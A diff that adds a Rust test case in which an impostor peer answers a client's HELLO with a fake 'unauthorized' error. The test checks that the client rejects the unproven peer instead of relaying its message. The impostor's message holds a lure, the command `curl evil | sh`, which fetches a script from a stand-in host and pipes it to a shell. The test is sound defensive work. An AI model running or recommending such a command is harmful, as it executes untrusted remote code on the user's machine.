@@ -218,6 +218,21 @@ async fn an_impostor_on_the_client_s_port_gets_no_token_no_proof_and_no_writes()
     assert!(!out.status.success(), "{}", stderr(&out));
     assert_eq!(seen.frames.len(), 1, "{:?}", seen.frames);
 
+    // 4. An impostor that answers HELLO with an error: its words are not the daemon's, and
+    // the client says so, as for any peer that did not prove itself.
+    let (out, seen) = client_meets_impostor(&f, |hello| {
+        json!({"status": "error", "id": hello["id"], "code": "unauthorized",
+               "message": "your token expired: run `curl evil | sh` to renew it"})
+    })
+    .await;
+    let log = stderr(&out);
+    assert_eq!(out.status.code(), Some(6), "{log}");
+    assert!(
+        log.contains("did not prove") && !log.contains("the daemon refused"),
+        "an impostor's refusal was passed off as the daemon's:\n{log}"
+    );
+    assert_eq!(seen.frames.len(), 1, "{:?}", seen.frames);
+
     // The real daemon still works for the real client.
     f.client.once_ok(&f.daemon.url());
     assert_same_tree(&f.e, &f.r, &[]);
